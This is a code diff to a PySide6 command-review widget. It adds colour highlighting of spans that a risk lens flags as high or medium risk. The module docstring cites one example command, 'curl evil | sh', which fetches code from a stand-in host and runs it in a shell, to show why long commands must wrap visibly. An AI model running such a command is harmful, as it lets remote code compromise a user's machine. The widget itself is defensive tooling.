@@ -9,7 +9,9 @@ token (a base64 blob, say) wraps anywhere. Wrapping at all matters: with horizon
 the tail of ``harmless; curl evil | sh`` could sit off-screen.
 
 The text given to :meth:`CommandView.show_command` must already be revealed (hidden characters
-escaped); this widget only renders it.
+escaped); this widget only renders it. Risky parts (from the risk lens, as spans of the revealed
+text) are drawn as extra selections: a coloured background over the plain text, so the
+document itself never holds anything but the command's characters.
 """
 
 from __future__ import annotations
@@ -17,8 +19,27 @@ from __future__ import annotations
 import re
 
 from PySide6.QtCore import Qt, QTimer
-from PySide6.QtGui import QFontDatabase, QMouseEvent, QResizeEvent, QShowEvent, QTextOption
-from PySide6.QtWidgets import QFrame, QPlainTextEdit, QWidget
+from PySide6.QtGui import (
+    QColor,
+    QFontDatabase,
+    QMouseEvent,
+    QResizeEvent,
+    QShowEvent,
+    QTextCharFormat,
+    QTextCursor,
+    QTextOption,
+)
+from PySide6.QtWidgets import QFrame, QPlainTextEdit, QTextEdit, QWidget
+
+from desktop.risk import RiskLevel
+
+Mark = tuple[int, int, RiskLevel]  # a span of the shown text (Python offsets) and its level
+
+# Background and text colour per level: fixed pairs that read in light and dark themes alike.
+MARK_COLOURS = {
+    RiskLevel.HIGH: ("#f9c9c4", "#5c0b05"),
+    RiskLevel.MEDIUM: ("#fde6a8", "#4a3000"),
+}
 
 _LONG_TOKEN = re.compile(r"\S{1000}")
 _WORD_WRAP_LIMIT = 100_000  # characters; above this the cheaper anywhere-wrap is used anyway
@@ -43,10 +64,11 @@ class CommandView(QPlainTextEdit):
         self.setLineWrapMode(QPlainTextEdit.LineWrapMode.WidgetWidth)
         self.setTabStopDistance(4 * self.fontMetrics().horizontalAdvance(" "))
         self._shown: str | None = None
+        self._marks: tuple[Mark, ...] = ()
         self._pending = False  # a long command waits for the first show (see show_command)
 
-    def show_command(self, text: str) -> None:
-        """Display ``text`` (already revealed); does nothing if it is what is shown already.
+    def show_command(self, text: str, marks: tuple[Mark, ...] = ()) -> None:
+        """Display ``text`` (already revealed) with ``marks`` highlighted; cheap if unchanged.
 
         A long command is laid out once, at the view's final width: every width change re-wraps
         the whole text (0.2 to 0.4 s per megabyte), and a hidden view changes width two or three
@@ -54,8 +76,12 @@ class CommandView(QPlainTextEdit):
         just after the first show, when the pending layout passes are done.
         """
         if text == self._shown:
+            if marks != self._marks:
+                self._marks = marks
+                self._apply_marks()
             return
         self._shown = text
+        self._marks = marks
         if len(text) <= _MEASURE_LIMIT or self.isVisible():
             self._apply()
         elif not self._pending:
@@ -88,6 +114,40 @@ class CommandView(QPlainTextEdit):
         self._fit_height(len(text))
         self.setPlainText(text)
         self._fit_height(len(text))
+        self._apply_marks()
+
+    def marks(self) -> tuple[Mark, ...]:
+        """The highlighted spans, as given (tests read them back)."""
+        return self._marks
+
+    def marked_texts(self) -> list[str]:
+        """The text under each drawn highlight, read back from the document."""
+        return [selection.cursor.selectedText() for selection in self.extraSelections()]
+
+    def _apply_marks(self) -> None:
+        text = self._shown or ""
+        if self._pending or self.toPlainText() != text:
+            return
+        wide = bool(text) and max(text) > "\uffff"  # positions count UTF-16 units then
+        selections = []
+        for start, end, level in self._marks:
+            colours = MARK_COLOURS.get(level)
+            if colours is None or not 0 <= start < end <= len(text):
+                continue
+            if wide:
+                start = len(text[:start].encode("utf-16-le")) // 2
+                end = len(text[:end].encode("utf-16-le")) // 2
+            selection = QTextEdit.ExtraSelection()
+            cursor = QTextCursor(self.document())
+            cursor.setPosition(start)
+            cursor.setPosition(end, QTextCursor.MoveMode.KeepAnchor)
+            selection.cursor = cursor
+            char_format = QTextCharFormat()
+            char_format.setBackground(QColor(colours[0]))
+            char_format.setForeground(QColor(colours[1]))
+            selection.format = char_format
+            selections.append(selection)
+        self.setExtraSelections(selections)
 
     def shown_text(self) -> str:
         """The text as displayed (what tests and screen readers read back)."""
